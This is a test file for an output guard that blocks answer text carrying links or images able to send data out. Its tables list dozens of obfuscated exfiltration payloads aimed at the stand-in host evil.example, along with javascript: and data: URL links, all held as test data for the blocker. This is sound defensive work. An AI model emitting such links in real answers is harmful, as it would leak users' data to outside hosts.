// Links in answers: which leave, which do not, in every disguise that a browser or a reader of Markdown sees through.
import { describe, expect, it } from "vitest";
import {
  compileLinks,
  DEFAULT_LINKS,
  guardText,
  type LinkOptions,
  type OutputRules,
} from "../../../../guards/output/index.ts";
import { base64, everyCut, hex, modes, rules, streamed } from "./support.ts";

function links(options: Partial<LinkOptions> = {}): OutputRules {
  return rules({
    modes: modes("off", { link: "block" }),
    links: compileLinks({ ...DEFAULT_LINKS, hosts: ["docs.example.com", "*.trusted.example"], ...options }),
  });
}

const RULES = links();
const DATA = base64("meet me at noon at the quay");

const CUT: readonly (readonly [name: string, text: string, rule: string])[] = [
  ["an image with a query", "![x](https://evil.example/a.png?d=1)", "output.image_data"],
  ["a scheme in mixed case", "![x](hTTpS://evil.example/a.png?d=1)", "output.image_data"],
  ["no scheme", "![x](//evil.example/a.png?d=1)", "output.image_data"],
  ["backslashes", "![x](https:\\\\evil.example/a.png?d=1)", "output.image_data"],
  ["one slash", "![x](https:/evil.example/a.png?d=1)", "output.image_data"],
  ["angle brackets", "![x](<https://evil.example/a b.png?d=1>)", "output.image_data"],
  ["white space before it", "![x](\n  https://evil.example/a.png?d=1)", "output.image_data"],
  ["a title behind it", '![x](https://evil.example/a.png?d=1 "a title")', "output.image_data"],
  ["white space in its query", "![x](https://evil.example/a.png?d=the quay at noon)", "output.image_data"],
  ["parentheses in it", "![x](https://evil.example/a_(b).png?d=1)", "output.image_data"],
  ["a character reference in its scheme", "![x](h&#116;tps://evil.example/a.png?d=1)", "output.image_data"],
  ["a named reference", "![x](https&colon;//evil.example/a.png?d=1)", "output.image_data"],
  ["Markdown's escapes", "![x](https\\://evil\\.example/a.png\\?d=1)", "output.image_data"],
  ["zero-width characters", "![x](ht\u200btps://evil.example/a.png?d=1)", "output.image_data"],
  ["a user name for a host", "![x](https://docs.example.com@evil.example/a.png)", "output.image_data"],
  ["a percent-encoded host", "![x](https://%65vil.example/a.png?d=1)", "output.image_data"],
  ["an international host", "![x](https://\u0435vil.example/a.png?d=1)", "output.image_data"],
  ["a subdomain of what is only listed itself", "![x](https://a.docs.example.com/a.png?d=1)", "output.image_data"],
  ["a host that ends like a listed one", "![x](https://nottrusted.example/a.png?d=1)", "output.image_data"],
  ["data in the path", `![x](https://evil.example/${DATA})`, "output.image_data"],
  ["data in the fragment", `![x](https://evil.example/a.png#${DATA})`, "output.image_data"],
  ["hex in a subdomain", `![x](https://${hex("the code is 12")}.evil.example/a.png)`, "output.image_data"],
  ["a sentence in the path", "![x](https://evil.example/meet%20me%20at%20noon.png)", "output.image_data"],
  ["an image in a link", "[![x](https://evil.example/a.png?d=1)](https://docs.example.com)", "output.image_data"],
  ["brackets in the words of an image", "![a [b] c](https://evil.example/a.png?d=1)", "output.image_data"],
  ["a reference, used before it is defined", "![x][1]\n\n[1]: https://evil.example/a.png?d=1\n", "output.image_data"],
  ["a reference, used by its name", "![logo] and\n\n[logo]: https://evil.example/a.png?d=1\n", "output.image_data"],
  ["img", '<img src="https://evil.example/a.png?d=1">', "output.image_data"],
  ["img without quotes", "<img src=https://evil.example/a.png?d=1>", "output.image_data"],
  ["img in capitals, with spaces", "<IMG alt='x' SRC = 'https://evil.example/a.png?d=1'>", "output.image_data"],
  ["a slash for a space", '<img/src="https://evil.example/a.png?d=1">', "output.image_data"],
  ["a line break in an attribute", '<img src="ht\ntps://evil.example/a.png?d=1">', "output.image_data"],
  ["a reference in an attribute", '<img src="https&#x3a;//evil.example/a.png?d=1">', "output.image_data"],
  ["srcset", '<img srcset="a.png 1x, https://evil.example/b.png?d=1 2x">', "output.image_data"],
  ["iframe", '<iframe src="//evil.example/?d=1"></iframe>', "output.image_data"],
  ["link", '<link rel=stylesheet href="https://evil.example/a.css?d=1">', "output.image_data"],
  ["a refresh", '<meta http-equiv=refresh content="0;url=https://evil.example/?d=1">', "output.image_data"],
  ["css", "background: url(https://evil.example/a.png?d=1)", "output.image_data"],
  [
    "css with quotes, in capitals",
    "<p style=\"background:URL('https://evil.example/a.png?d=1')\">",
    "output.image_data",
  ],
  ["css with escapes", "url(\\68 ttps://evil.example/a.png?d=1)", "output.image_data"],
  ["a link with an encoding", `[click](https://evil.example/?q=${DATA})`, "output.link_data"],
  ["a bare link with an encoding", `see https://evil.example/?q=${DATA} now`, "output.link_data"],
  ["a bare link with an address", "see www.evil.example/?q=joan@mail.example", "output.link_data"],
  ["a link of another scheme", `open slack://evil.example/?q=${DATA}`, "output.link_data"],
  ["an autolink", `<https://evil.example/?q=${DATA}>`, "output.link_data"],
  ["a in HTML", `<a href="https://evil.example/?q=${DATA}">x</a>`, "output.link_data"],
  ["a script", "[x](javascript:alert(1))", "output.link_script"],
  ["a script with a line break", '<a href="java\nscript:alert(1)">x</a>', "output.link_script"],
  ["a script in an autolink", "<javascript:alert(1)>", "output.link_script"],
  ["a script, with a reference", "[x](javascript&colon;alert(1))", "output.link_script"],
  ["a page in a data URL", "[x](data:text/html;base64,PHNjcmlwdD4=)", "output.link_data_url"],
  ["a drawing in a data URL", "![x](data:image/svg+xml,<svg/>)", "output.link_data_url"],
];

const FLOWS: readonly (readonly [name: string, text: string])[] = [
  ["prose", "He said (twice) that a < b; see [1] and http: the protocol. Data: none. url () is css."],
  [
    "a link to a foreign page",
    "See [the page](https://en.wikipedia.example/wiki/Sourdough_bread) and https://npm.example/package/@types/node.",
  ],
  ["a search", "https://search.example/?q=how+to+bake+bread&hl=en&page=2"],
  ["an image without a query", "![logo](https://cdn.example/img/logo-2x.png)"],
  ["a listed host with a query", "![x](https://docs.example.com/a.png?d=1) and ![y](https://a.trusted.example/b?c=1)"],
  ["a relative image", "![x](./img/a.png?d=1) ![y](/b.png) ![z](#anchor)"],
  ["an image within", `![x](data:image/png;base64,${"iVBORw0KGgo".repeat(800)}) done`],
  ["code", 'const a = rows[i](x); const b = "a://" + c; <div class="x">{y}</div> if (a <b && c> d) {}'],
  ["a definition for a link", "[the docs][1]\n\n[1]: https://pages.example/a?id=5\n"],
  ["a mail address", "[mail](mailto:office@harbour.example)"],
  ["a version in a path", "https://unpkg.example/react@18.2.0/umd/react.production.min.js"],
  ["a hash in a path", `https://git.example/a/b/commit/${"0123456789abcdef".repeat(2)}01234567`],
  ["a long link to a listed host", `[x](https://docs.example.com/?q=${"ab/".repeat(1500)}) done`],
];

describe("links that carry data away", () => {
  for (const [name, text, rule] of CUT)
    it(`${name}: never leaves, however it is cut`, () => {
      const whole = guardText(`Look: ${text} end`, RULES);
      expect(whole.findings.map((finding) => finding.rule)).toEqual([rule]);
      expect(whole.cut).toBe(true);
      expect(whole.text).not.toMatch(/evil|alert|base64,|svg/i);
      for (const cutUp of everyCut(`Look: ${text} end`)) expect(streamed(cutUp, RULES)).toEqual(whole);
      expect(streamed(Array.from(`Look: ${text} end`), RULES, 300)).toEqual(whole);
    });
});

describe("a definition that only an image makes harmful", () => {
  const text = "[1]: https://evil.example/a.png?d=1\n\nas [said][1] and ![x][1]";

  it("leaves, as links may use it; the image that would load it does not", () => {
    const whole = guardText(text, RULES);
    expect(whole.findings.map(({ rule }) => rule)).toEqual(["output.image_reference"]);
    expect(whole.text).toBe(text.slice(0, text.indexOf("![") + 1));
    for (const cutUp of everyCut(text)) expect(streamed(cutUp, RULES)).toEqual(whole);
  });
});

describe("links that do not", () => {
  for (const [name, text] of FLOWS)
    it(`${name}: flows`, () => {
      expect(guardText(text, RULES)).toEqual({ text, cut: false, findings: [] });
      expect(streamed(Array.from(text), RULES)).toEqual({ text, cut: false, findings: [] });
    });
});

describe("policy", () => {
  it("with `none`, no foreign host is linked at all, listed ones are", () => {
    const strict = links({ images: "none", links: "none" });
    expect(guardText("![x](https://cdn.example/a.png)", strict).findings[0]?.rule).toBe("output.image_foreign");
    expect(guardText("see https://pages.example/", strict).findings[0]?.rule).toBe("output.link_foreign");
    expect(guardText("see https://DOCS.example.com./a", strict).cut).toBe(false);
  });

  it("with `any`, scripts are still none", () => {
    const open = links({ images: "any", links: "any" });
    expect(guardText("![x](https://evil.example/a.png?d=1)", open).cut).toBe(false);
    expect(guardText("[x](javascript:alert(1))", open).cut).toBe(true);
  });

  it("a redacted link leaves its words and the text behind it", () => {
    const redact = rules({ modes: modes("off", { link: "redact" }) });
    const { text, cut } = guardText(
      "a ![b](https://evil.example/?d=1) c https://evil.example/?q=joan@mail.example. d",
      redact,
    );
    expect(cut).toBe(false);
    expect(text).toBe("a ![b]([REDACTED:link]) c [REDACTED:link]. d");
  });

  it("a link is held up to the limit and then counts as a match", () => {
    const long = (length: number): string => `[x](https://evil.example/${"a-".repeat(length)}`.slice(0, 4 + length);
    expect(guardText(`${long(2048)})`, links({ links: "any" })).cut).toBe(false);
    expect(guardText(`${long(2049)})`, links({ links: "any" })).findings[0]?.rule).toBe("output.link_long");
  });
});
